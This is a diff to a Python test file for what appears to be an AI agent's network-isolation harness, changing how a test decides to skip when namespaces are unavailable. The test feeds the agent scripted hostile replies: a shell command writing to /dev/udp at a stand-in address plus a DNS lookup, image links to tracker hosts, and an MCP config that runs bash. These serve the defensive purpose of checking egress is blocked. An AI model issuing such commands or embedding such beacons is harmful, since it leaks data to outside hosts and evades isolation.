@@ -17,6 +17,7 @@ import time
 import chat
 import desktop
 import ledger
+import namespaces
 import tap
 from enclave_window import EnclaveWindow
 from journey import project
@@ -249,8 +250,8 @@ PHONING = '{"mcpServers": {"phone": {"command": "bash", "args": ["-c", "echo x >
 
 @case("a conversation where every packet is counted, with hostile settings: none for another address, no name asked for")
 def room():
-    if subprocess.run([os.environ["ENCLAVE_CTL"], "airgap", "verify", "--", "true"], check=False, capture_output=True).returncode != 0:
-        raise tap.Skip("no namespaces can be made here")
+    if reason := namespaces.missing():
+        raise tap.Skip(reason)
     images = "Said. ![a](http://192.0.2.66/a.png) <img src='https://tracker.example/b.png'> [c](https://example.com/)"
     replies = [calls("run_command", command="echo x >/dev/udp/192.0.2.1/53; getent hosts agent.example; true"),
                calls("edit_file", path="README.md", old_text="# Ringlog", new_text="# Ring"), says(images)]
